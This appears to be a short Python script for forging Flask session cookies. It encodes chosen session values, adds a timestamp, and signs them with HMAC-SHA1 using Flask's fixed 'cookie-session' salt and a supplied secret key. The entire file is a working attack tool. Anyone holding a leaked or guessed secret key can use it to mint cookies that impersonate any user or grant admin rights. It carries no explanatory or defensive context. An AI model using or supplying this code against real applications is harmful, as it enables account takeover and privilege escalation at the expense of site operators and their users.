import base64
import hmac
import json
import time


def encode(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=")


def sign(text, key):
    # The salt is a constant in Flask's source, the same for every app.
    signing_key = hmac.digest(key.encode(), b"cookie-session", "sha1")
    return encode(hmac.digest(signing_key, text, "sha1"))


def forge(values, key):
    payload = encode(json.dumps(values, separators=(",", ":")).encode())
    timestamp = encode(int(time.time()).to_bytes(4, "big"))
    text = payload + b"." + timestamp
    return (text + b"." + sign(text, key)).decode()
